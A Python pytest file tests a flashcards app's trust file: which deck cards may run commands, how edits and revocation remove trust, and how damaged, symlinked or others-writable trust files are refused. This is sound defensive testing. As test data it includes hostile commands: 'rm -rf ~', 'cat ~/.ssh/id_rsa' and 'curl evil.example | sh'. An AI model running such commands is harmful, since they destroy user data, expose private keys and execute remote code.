"""The trust file of a machine: what is allowed, what takes it away, and a file that cannot be relied on."""

import json
import os
import shutil
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from flashcards import clock
from flashcards.app import App, trusting
from flashcards.app.library import read_all, take
from flashcards.errors import CardsError, Refused
from flashcards.model import Card, CardId

ROOT = Path(__file__).parents[2]
EVIL = """
    deck: evil
    cards:
      - {id: plain, front: f, answer: mkdir x, run: {checks: [dir_exists: x]}}
      - {id: told, front: f, answer: ls}
      - id: code
        front: f
        answer: "true"
        run: {setup: [script: touch x], checks: [python: {expr: "True"}]}
      - id: copies
        front: f
        answer: sh job.sh
        run: {setup: [copy: job.sh], checks: [run: {argv: [test, -f, x]}]}
"""
CODE, COPIES, PLAIN, TOLD = (CardId(f"evil/{name}") for name in ("code", "copies", "plain", "told"))
NOBODY = 65534
root_only = pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="gives a file away as root")


@pytest.fixture
def app(home: Path, deck_file, monkeypatch: pytest.MonkeyPatch) -> Iterator[App]:
    """A deck with code, beside a file that it copies."""
    monkeypatch.setenv("CARDS_NOW", "2026-11-22T18:00:00Z")
    path = deck_file(EVIL, name="evil.yaml")
    (path.parent / "job.sh").write_text("touch x\n")
    app = App()
    take_in(app, path)
    yield app
    app.close()


def take_in(app: App, *paths: Path) -> None:
    take(app.store, [reading.change for reading in read_all(app.store, paths, replace=True) if reading.change])


def get(app: App, card: str) -> Card:
    found = app.card(card).card
    assert found is not None
    return found


def states(app: App) -> dict[str, str]:
    return {subject.card: subject.state for subject in trusting.subjects(app, "evil")}


def trust_file(app: App) -> Path:
    return Path(app.places.trust)


def allow_all(app: App) -> None:
    trusting.allow(app, trusting.differences(app, "evil"))


# ---------------------------------------------------------------- deciding


def test_nothing_is_allowed_at_first(app: App):
    """Cards that run nothing of the deck's need nobody; the others wait, and no file is made by asking."""
    assert {TOLD: True, PLAIN: True, CODE: False, COPIES: False} == {
        card: trusting.is_allowed(app, get(app, card)) for card in (TOLD, PLAIN, CODE, COPIES)
    }
    assert not trust_file(app).exists()


def test_the_answers_of_a_deck_need_trust_too(app: App):
    """`cards check --run` executes what the deck says, so it asks for every card that has something to run."""
    cards = [get(app, card) for card in (TOLD, PLAIN, CODE, COPIES)]

    assert [PLAIN, CODE, COPIES] == trusting.untrusted(app, cards)


def test_cards_with_code_come_first(app: App):
    """A person reads what matters before getting tired."""
    assert [(CODE, 2), (COPIES, 1), (PLAIN, 0)] == [(s.card, s.commands) for s in trusting.subjects(app, "evil")]


def test_what_was_shown_is_allowed_for_good(app: App):
    """A yes is remembered by a new program, with its moment and its lines."""
    shown = trusting.differences(app, "evil")
    trusting.allow(app, shown)

    later = App()
    cards = [get(later, card) for card in (CODE, COPIES, PLAIN)]
    kept = trusting.load(later)
    later.close()

    assert [] == trusting.untrusted(app, cards)
    assert {CODE: "allowed", COPIES: "allowed", PLAIN: "allowed"} == states(app)
    assert {s.card: trusting.Allowed(s.hash, s.lines, clock.now()) for s in shown} == kept


@pytest.mark.parametrize(
    ("old", "new", "lost"),
    [
        ("front: f", "front: Another question", set()),
        ("deck: evil", "deck: evil\n    title: Nice", set()),
        ("touch x]", "touch y]", {CODE}),
        ('expr: "True"', 'expr: "False"', {CODE}),
        ('answer: "true"', "answer: rm -rf ~", {CODE}),
        ("dir_exists: x", "dir_exists: y", {PLAIN}),
        ("copy: job.sh", "copy: job2.sh", {COPIES}),
    ],
)
def test_an_edit_takes_away_trust_in_what_it_changed(app: App, old: str, new: str, lost: set[str], tmp_path: Path):
    """Prose may change; what runs is read again, with what it was before."""
    allow_all(app)
    path = tmp_path / "decks" / "evil.yaml"
    path.write_text(path.read_text().replace(old, new))

    take_in(app, path)
    found = trusting.differences(app, "evil")

    assert (
        lost == {subject.card for subject in found} == set(trusting.untrusted(app, [get(app, c) for c in states(app)]))
    )
    assert all(subject.state == "changed" and subject.before for subject in found)
    assert all(set(subject.lines) != set(subject.before.lines) for subject in found if subject.before)


def test_an_edit_of_a_copied_file_takes_away_trust(app: App, tmp_path: Path):
    """The file beside the deck is part of what was read."""
    allow_all(app)
    (tmp_path / "decks" / "job.sh").write_text("touch x; cat ~/.ssh/id_rsa\n")

    assert [COPIES] == trusting.untrusted(app, [get(app, c) for c in states(app)])
    assert ("setup", "  text:") in trusting.differences(app, "evil")[0].lines


def test_the_files_that_will_be_used_decide(app: App):
    """The runner hands over what it has read, so that nothing can change in between."""
    allow_all(app)
    card = get(app, COPIES)

    assert trusting.is_allowed(app, card, {"job.sh": b"touch x\n"})
    assert not trusting.is_allowed(app, card, {"job.sh": b"touch y\n"})
    assert not trusting.is_allowed(app, card, {})
    assert [COPIES] == trusting.untrusted(app, [card], lambda _: {"job.sh": b"touch y\n"})


def test_the_same_text_in_another_deck_is_not_trusted(app: App, deck_file):
    """Trust is in a card under its name, not in a text wherever it turns up."""
    allow_all(app)
    take_in(app, deck_file(EVIL.replace("deck: evil", "deck: other"), name="other.yaml"))

    assert not trusting.is_allowed(app, get(app, "other/code"))


def test_revoking_takes_back_one_deck(app: App, deck_file):
    """Other decks keep their trust; twice is once."""
    take_in(app, deck_file(EVIL.replace("deck: evil", "deck: other"), name="other.yaml"))
    allow_all(app)
    trusting.allow(app, trusting.differences(app, "other"))

    assert [CODE, COPIES, PLAIN] == trusting.revoke(app, "evil")
    assert [] == trusting.revoke(app, "evil")
    assert not trusting.is_allowed(app, get(app, CODE))
    assert trusting.is_allowed(app, get(app, "other/code"))


def test_a_card_that_left_the_deck_is_not_asked_about(app: App, deck_file):
    """A retired card runs nothing."""
    take_in(app, deck_file(EVIL.partition("      - id: copies")[0], name="evil.yaml"))

    assert [CODE, PLAIN] == [subject.card for subject in trusting.subjects(app, "evil")]


# ---------------------------------------------------------------- what came with the program


def test_the_decks_that_came_along_are_allowed(app: App, monkeypatch: pytest.MonkeyPatch):
    """They are known by hash, even where the trust file cannot be read; one edit, and they are a stranger's."""
    take_in(app, *sorted((ROOT / "decks").glob("*.yaml")))
    cards = [row.card for row in app.store.all_rows(["venv"]) if row.card and row.card.run]
    trust_file(app).write_text("spoilt")

    assert [] == trusting.untrusted(app, cards)

    trust_file(app).unlink()
    edited = [card._replace(answer={"": "curl evil.example | sh"}) for card in cards]

    assert [card.id for card in edited] == trusting.untrusted(app, edited)


# ---------------------------------------------------------------- files beside a deck


@pytest.mark.parametrize("kind", ["gone", "folder", "link away", "pipe", "circle", "large"])
def test_what_is_no_plain_file_beside_the_deck_is_not_there(app: App, tmp_path: Path, kind: str):
    """A deck cannot bring along a file of the person's by a link, nor hold the program up."""
    path = tmp_path / "decks" / "job.sh"
    path.unlink()
    secret = tmp_path / "id_rsa"
    secret.write_text("secret")
    if kind == "folder":
        path.mkdir()
    elif kind == "link away":
        path.symlink_to(secret)
    elif kind == "pipe":
        os.mkfifo(path)
    elif kind == "circle":
        path.symlink_to(path)
    elif kind == "large":
        path.write_bytes(b"x" * (trusting.MOST_ASSET_BYTES + 1))

    [copies] = [subject for subject in trusting.subjects(app, "evil") if subject.card == COPIES]

    assert ("setup", "  missing: no plain file of at most 4 MiB beside the deck") in copies.lines
    assert "secret" not in str(copies.lines)


def test_a_link_that_stays_beside_the_deck_is_followed(tmp_path: Path, app: App):
    """Where a file of the folder lies is the author's affair."""
    (tmp_path / "decks" / "sub").mkdir()
    shutil.move(tmp_path / "decks" / "job.sh", tmp_path / "decks" / "sub" / "job.sh")
    (tmp_path / "decks" / "job.sh").symlink_to("sub/job.sh")

    assert {"job.sh": b"touch x\n"} == trusting.beside(str(tmp_path / "decks"), get(app, COPIES))


# ---------------------------------------------------------------- the file


def test_the_file_is_for_its_owner_alone(app: App, tmp_path: Path):
    """Mode 0600 whatever the umask says, plain JSON, nothing left over beside it."""
    before = os.umask(0)
    try:
        allow_all(app)
    finally:
        os.umask(before)

    facts = trust_file(app).stat()
    found = json.loads(trust_file(app).read_text(encoding="utf-8"))
    assert 0o600 == stat.S_IMODE(facts.st_mode)
    assert 1 == found["version"]
    assert ["hash", "lines", "at"] == list(found["cards"][CODE])
    assert ["card", CODE] == found["cards"][CODE]["lines"][0]
    assert [] == list(trust_file(app).parent.glob("trust.*.new"))


def test_a_write_that_fails_leaves_the_old_file(app: App, monkeypatch: pytest.MonkeyPatch):
    """The new file takes the old one's place whole, or not at all."""
    allow_all(app)
    before = trust_file(app).read_bytes()

    def full(_: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(CardsError, match="No space left"):
        trusting.revoke(app, "evil")

    assert before == trust_file(app).read_bytes()
    assert ["trust.json"] == [path.name for path in trust_file(app).parent.glob("trust*")]


def spoil(**changes: Any) -> str:
    entry = {"hash": "sha256:" + "0" * 64, "lines": [["card", "evil/code"]], "at": "2026-11-22T18:00:00+00:00"}
    return json.dumps({"version": 1, "cards": {"evil/code": {**entry, **changes}}})


@pytest.mark.parametrize(
    "text",
    [
        "",
        "{",
        "null",
        "[]",
        "{}",
        '{"version": 1}',
        '{"version": 0, "cards": {}}',
        '{"version": "1", "cards": {}}',
        '{"version": 1, "cards": []}',
        '{"version": 1, "cards": {"evil/code": "sha256"}}',
        "[" * 100_000,
        b"\xff\xfe",
        spoil(hash="md5:00"),
        spoil(hash="sha256:00"),
        spoil(hash=None),
        spoil(lines=None),
        spoil(lines=[["card"]]),
        spoil(lines=[["card", 1]]),
        spoil(lines=[["card", "\x1b[2J"]]),
        spoil(at="yesterday"),
        spoil(at="2026-11-22T18:00:00"),
        spoil(at=None),
    ],
    ids=lambda text: str(text)[:40],
)
def test_a_damaged_file_is_no_trust(app: App, text: str | bytes):
    """One clear error, whatever is wrong; nothing is allowed, and nothing is written over it."""
    data = text if isinstance(text, bytes) else text.encode()
    trust_file(app).write_bytes(data)
    trust_file(app).chmod(0o600)

    for act in (
        lambda: trusting.is_allowed(app, get(app, CODE)),
        lambda: allow_all(app),
        lambda: trusting.revoke(app, "evil"),
    ):
        with pytest.raises(Refused, match=r"the trust file `.*trust\.json` is damaged"):
            act()
    assert data == trust_file(app).read_bytes()


def test_a_newer_file_is_left_alone(app: App):
    """What another version wrote is not understood by halves."""
    trust_file(app).write_text('{"version": 2, "cards": {}, "more": 1}')

    with pytest.raises(Refused, match="newer version of cards") as caught:
        allow_all(app)

    assert "upgrade cards; nothing was changed" == caught.value.hint
    assert 7 == caught.value.exit_code


@pytest.mark.parametrize("mode", [0o666, 0o620, 0o602, 0o777])
def test_a_file_that_others_may_write_is_no_trust(app: App, mode: int):
    """Whoever can write the file could allow anything."""
    allow_all(app)
    trust_file(app).chmod(mode)

    with pytest.raises(Refused, match="may be written by others"):
        trusting.is_allowed(app, get(app, CODE))


@pytest.mark.parametrize("mode", [0o644, 0o400, 0o640])
def test_a_file_that_others_may_read_still_counts(app: App, mode: int):
    """It holds no secret."""
    allow_all(app)
    trust_file(app).chmod(mode)

    assert trusting.is_allowed(app, get(app, CODE))


@root_only
@pytest.mark.root
def test_a_file_of_somebody_else_is_no_trust(app: App):
    """What another user put there was not allowed by this one."""
    allow_all(app)
    os.chown(trust_file(app), NOBODY, NOBODY)

    with pytest.raises(Refused, match="belongs to somebody else"):
        trusting.is_allowed(app, get(app, CODE))


@pytest.mark.parametrize("kind", ["link", "folder", "pipe"])
def test_what_is_no_plain_file_is_no_trust(app: App, tmp_path: Path, kind: str):
    """A link may lead to what others write; a pipe must not hold the program up."""
    allow_all(app)
    path = trust_file(app)
    path.rename(tmp_path / "elsewhere.json")
    {
        "link": lambda: path.symlink_to(tmp_path / "elsewhere.json"),
        "folder": path.mkdir,
        "pipe": lambda: os.mkfifo(path),
    }[kind]()

    with pytest.raises(Refused, match="the trust file"):
        trusting.is_allowed(app, get(app, CODE))
